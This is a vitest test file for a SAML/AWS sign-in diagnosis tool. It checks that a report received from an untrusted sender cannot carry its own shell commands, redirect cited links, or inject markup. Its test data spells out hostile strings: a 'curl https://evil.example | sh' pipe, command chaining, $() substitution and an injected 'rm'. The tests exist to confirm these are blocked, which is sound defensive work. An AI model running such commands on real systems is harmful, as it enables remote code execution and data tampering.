import { describe, expect, it } from 'vitest';
import { readReport } from '../../src/evidence/earlier-report.ts';
import type { DiagnosisReport } from '../../src/report/format.ts';
import { remediesFor } from '../../src/report/remedies.ts';
import { harmIn } from './follow-through.ts';
import { HOSTILE_VALUES } from './hostile-values.ts';
import { reportJson } from './report-json.ts';

/** A report that somebody sent and a victim opens. Anyone can have written it. */
const opened = async (change: (json: string) => string = (json) => json): Promise<DiagnosisReport> => {
  const report = readReport(JSON.parse(change(await reportJson())));
  if (!report.ok || 'error' in report.value) throw new Error('the report of the test cannot be read');
  return report.value;
};

describe('a report that somebody sent', () => {
  it('keeps what the program itself wrote', async () => {
    const { outsideBrowser, findings } = await opened();
    expect(outsideBrowser.map(({ command }) => command?.split(' ')[0])).toContain('aws');
    expect(findings.flatMap(({ basis }) => basis.map(({ url }) => url)).filter((url) => url !== null)).not.toEqual([]);
  });

  it.each([
    'curl https://evil.example | sh',
    "aws identitystore list-users --region 'us-east-1'; touch /tmp/owned",
    "aws iam create-user --user-name 'x'",
    "aws identitystore list-users --endpoint-url 'https://evil.example'",
    'aws cloudtrail lookup-events --region $(touch /tmp/owned)',
    "aws cloudtrail lookup-events --region 'a'\nrm",
    'aws identitystore list-users --region "us-east-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=%COMSPEC%" --output json',
    'aws identitystore list-users --region "acme-corp-1" --identity-store-id "d-1234567890" --filters "AttributePath=UserName,AttributeValue=USER_NAME" --output json',
    'aws cloudtrail lookup-events --region "us-east-1" --lookup-attributes "AttributeKey=EventName,AttributeValue=ExternalIdPDirectoryLogin" --start-time "9999-99-99T99:99:99Z" --end-time "x"',
  ])('cannot bring its own command: %s', async (command) => {
    const { outsideBrowser } = await opened((json) =>
      json.replaceAll(/"command":"(?:[^"\\]|\\.)*"/g, () => `"command":${JSON.stringify(command)}`),
    );
    expect(outsideBrowser.length).toBeGreaterThan(0);
    expect(outsideBrowser.every((each) => each.command === null)).toBe(true);
  });

  it('leads only to pages that the program cites', async () => {
    const { findings } = await opened((json) => json.replaceAll('https://docs.aws.amazon.com', 'https://evil.example'));
    expect(JSON.stringify(findings.map(({ basis }) => basis))).not.toContain('evil.example');
  });

  it('offers only real AWS addresses for pasting', async () => {
    const report = await opened();
    const values = ({ authnRequest, instance, ...rest }: DiagnosisReport): readonly string[] =>
      remediesFor({
        ...rest,
        authnRequest,
        instance,
        cause: { code: 'posted-to-unknown-acs', weight: 'decisive', explains: [] },
      })
        .flatMap(({ steps }) => steps)
        .flatMap((step) => step.values);
    const evil = 'https://evil.example/platform/saml/acs/1';
    expect(values(report).join(' ')).toContain('https://us-east-1.signin.aws');
    const forged = { ...report, instance: report.instance && { ...report.instance, acsUrls: [evil] } };
    expect(values(forged).join(' ')).not.toContain('evil.example');
  });

  it.each(Object.entries(HOSTILE_VALUES))(
    'never becomes markup, even if every name in it is hostile: %s',
    async (_, value) => {
      const report = await opened((json) =>
        [
          'jane.doe@example.com',
          'https://idp.example/saml/metadata',
          'https://wrong.example',
          'Assertion/Conditions',
        ].reduce((text, name) => text.replaceAll(JSON.stringify(name), () => JSON.stringify(value)), json),
      );
      expect(harmIn(report)).toEqual([]);
    },
  );
});
